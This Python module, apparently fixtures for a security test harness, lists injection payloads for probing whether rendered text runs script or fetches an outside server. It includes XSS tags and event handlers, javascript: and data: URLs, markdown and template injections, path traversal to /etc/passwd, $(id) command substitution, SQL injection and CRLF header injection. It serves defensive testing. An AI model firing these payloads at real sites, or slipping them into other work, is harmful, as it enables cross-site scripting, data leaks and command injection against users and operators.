"""Texts that try to be run, or to fetch something, wherever they may be put; and names that are special to a language.

``CALL`` stands for what is run, ``URL`` for somebody else's server.
"""

from collections.abc import Iterator
from itertools import product

CALL = "gotOut(location.href)"
"""A call of a function that a test gives to all pages and frames."""
_IMAGE = "<img src=x: onerror=CALL>"

TAGS = [
    "<script>CALL</script>",
    "<SCRIPT>CALL</SCRIPT>",
    '<script src="data:text/javascript,CALL"></script>',
    "<script type=module>CALL</script>",
    _IMAGE,
    '<img src="x:" onerror="CALL">',
    "<img src='x:' onerror='CALL'>",
    "<IMG SRC=x: ONERROR=CALL>",
    "<img/src=x:/onerror=CALL>",
    "<img\nsrc=x:\nonerror\n=\nCALL>",
    "<img src=x: onerror=&#103;otOut&lpar;location.href&rpar;>",
    "<img srcset=x: onerror=CALL>",
    "<image src=x: onerror=CALL>",
    "<svg onload=CALL>",
    "<svg/onload=CALL>",
    "<svg><script>CALL</script></svg>",
    '<svg><script href="data:text/javascript,CALL"></script></svg>',
    "<svg><animate onbegin=CALL attributeName=x dur=1s>",
    "<svg><set onbegin=CALL attributeName=x dur=1s>",
    "<svg><image href=x: onerror=CALL>",
    "<svg><foreignObject><img src=x: onerror=CALL></foreignObject></svg>",
    "<svg><style><img src=x: onerror=CALL></style></svg>",
    "<svg><title><img src=x: onerror=CALL></title></svg>",
    "<svg><desc><img src=x: onerror=CALL></desc></svg>",
    "<math><mtext><img src=x: onerror=CALL></mtext></math>",
    "<math><annotation-xml encoding=text/html><img src=x: onerror=CALL></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror=CALL&gt;'>",
    "<video src=x: onerror=CALL></video>",
    "<video><source src=x: onerror=CALL></video>",
    "<audio src=x: onerror=CALL></audio>",
    "<object data=x: onerror=CALL></object>",
    "<iframe onload=CALL></iframe>",
    '<iframe srcdoc="<script>CALL</script>"></iframe>',
    '<iframe src="javascript:CALL"></iframe>',
    "<details open ontoggle=CALL><summary>x</summary></details>",
    "<input autofocus onfocus=CALL>",
    "<select autofocus onfocus=CALL></select>",
    "<textarea autofocus onfocus=CALL></textarea>",
    "<button autofocus onfocus=CALL>x</button>",
    "<a href=# autofocus onfocus=CALL>x</a>",
    "<b tabindex=0 autofocus onfocus=CALL>x</b>",
    "<style onload=CALL></style>",
    "<link rel=stylesheet href=data:text/css, onload=CALL>",
    "<style>@keyframes k{}</style><b style='animation:k 1s' onanimationstart=CALL>x</b>",
    "<marquee onstart=CALL>x</marquee>",
    "<form><button formaction=javascript:CALL>x</button></form>",
    "<form action=javascript:CALL><input type=submit></form>",
    "<embed src=javascript:CALL>",
    "<object data=javascript:CALL></object>",
    "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "<base href='javascript:CALL//'>",
    "<template shadowrootmode=open><img src=x: onerror=CALL></template>",
    "<dialog open onbeforetoggle=CALL><img src=x: onerror=CALL></dialog>",
]
"""Elements that run it."""

ENDS = [
    f"{end}{_IMAGE}"
    for end in (
        "</script>",
        "</style>",
        "</title>",
        "</textarea>",
        "</noscript>",
        "</template>",
        "</pre>",
        "</code>",
        "</iframe>",
        "</svg>",
        "</table>",
        "</select>",
        "</xmp>",
        "</noembed>",
        "</noframes>",
        "-->",
        "--!>",
        "]]>",
        "%>",
        "?>",
        "<!--><!---->",
        "<!--",
        '<noscript><p title="</noscript>',
    )
]
"""What ends that in which a text may stand, with an element behind."""

ATTRIBUTES = [
    f"{quote}{rest}"
    for quote, rest in product(
        ('"', "'"),
        (
            f">{_IMAGE}",
            " autofocus tabindex=0 onfocus=CALL ",
            " onmouseover=CALL ",
            " style=animation:k onanimationstart=CALL ",
        ),
    )
] + ["x onfocus=CALL autofocus tabindex=0", "`onerror=CALL"]
"""What ends an attribute."""

SCRIPTS = [
    '";CALL;//',
    "';CALL;//",
    "`;CALL;//",
    '\\";CALL;//',
    "${CALL}",
    '"-CALL-"',
    "'-CALL-'",
    "*/CALL/*",
    "\u2028CALL//",
    '"}];CALL;//',
    "</script><script>CALL</script>",
    "<!--<script>",
    "{{CALL}}",
    "{{constructor.constructor('CALL')()}}",
    "<%= CALL %>",
    "#{CALL}",
    "[[CALL]]",
]
"""What ends a string of a script, or of a template."""

ADDRESSES = [
    "javascript:CALL",
    "JaVaScRiPt:CALL",
    "java\tscript:CALL",
    "java\nscript:CALL",
    " \x01javascript:CALL",
    "javascript&colon;CALL",
    "&#106;avascript:CALL",
    "javascript://%0aCALL",
    "vbscript:CALL",
    "data:text/html,<script>CALL</script>",
    "data:text/html;base64,PHNjcmlwdD5nb3RPdXQoMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='CALL'/>",
    "blob:URL/x",
    "file:///etc/passwd",
    "view-source:URL/x",
    "URL/address",
    "//127.0.0.1:1/x",
]
"""Addresses that run it, or that lead elsewhere."""

MARKDOWN = [
    "[x](javascript:CALL)",
    "[x]( javascript:CALL)",
    "[x](java\tscript:CALL)",
    "[x](&#x6A;avascript:CALL)",
    "[x](data:text/html,<script>CALL</script>)",
    "![x](javascript:CALL)",
    "![x](URL/markdown.png)",
    '![x](x: "onerror=CALL)',
    '[x](x "\\" onmouseover=CALL)',
    "[x]: javascript:CALL\n[x]",
    "<javascript:CALL>",
    f"[{_IMAGE}](x)",
    f"**{_IMAGE}**",
    f"```\n</code></pre>{_IMAGE}\n```",
    f"`</code>{_IMAGE}`",
    f"| {_IMAGE} |\n|---|\n| {_IMAGE} |",
    f"# {_IMAGE}",
    "```<img/src=x:/onerror=CALL>\nx\n```",
    "$\\href{javascript:CALL}{x}$",
    "$$\\includegraphics{URL/maths.png}$$",
    f"$\\text{{{_IMAGE}}}$",
    "$\\htmlData{x=CALL}{x}$",
    "\x1b]8;;javascript:CALL\x1b\\x\x1b]8;;\x1b\\",
]
"""What a renderer may make of it."""

FETCHES = [
    "<img src=URL/image>",
    "<img srcset='URL/srcset 2x'>",
    "<style>@import 'URL/import';</style>",
    "<b style='background:url(URL/style)'>x</b>",
    "<link rel=stylesheet href=URL/sheet>",
    "<link rel=preconnect href=URL>",
    "<link rel=dns-prefetch href=URL>",
    "<link rel=prefetch href=URL/prefetch>",
    "<link rel=preload as=image href=URL/preload>",
    "<link rel=icon href=URL/icon>",
    "<video poster=URL/poster></video>",
    "<iframe src=URL/frame></iframe>",
    "<object data=URL/object></object>",
    "<embed src=URL/embed>",
    "<svg><image href=URL/svg /></svg>",
    "<svg><use href=URL/use#x /></svg>",
    "<meta http-equiv=refresh content='0;url=URL/refresh'>",
    "<a href=URL/ping ping=URL/ping>x</a>",
    "<body background=URL/background>",
    "<table background=URL/table><td background=URL/td>",
    "url(URL/css)",
    "red;background:url(URL/declaration)",
    "red}*{background:url(URL/rule)}",
    "#fff;list-style:url(URL/list)",
]
"""What would ask somebody else's server."""

NAMES = [
    "__proto__",
    "constructor",
    "prototype",
    "hasOwnProperty",
    "toString",
    "valueOf",
    "then",
    "length",
    "undefined",
    "null",
    "NaN",
    "Infinity",
    "-0",
    "1e999",
    "0x10",
    "true",
    ".",
    "../../../etc/passwd",
    "%2e%2e%2f",
    "C:\\x",
    "a/b/c",
    "\0",
    "\r\n\r\nSet-Cookie: x=1",
    "\u202egnp.exe",
    "\ufeff",
    "e\u0301" * 50,
    "\U0001f4a5",
    "%s%n%x",
    "$(id)",
    "`id`",
    "' OR 1=1 --",
    "; DROP TABLE executions;",
]
"""Names that are something else to a language, a file system or a terminal."""


def payloads(url: str) -> Iterator[str]:
    """All of them, aimed at a server.

    Args:
        url: Its address.
    """
    for each in (*TAGS, *ENDS, *ATTRIBUTES, *SCRIPTS, *ADDRESSES, *MARKDOWN, *FETCHES, *NAMES):
        yield each.replace("CALL", CALL).replace("URL", url)
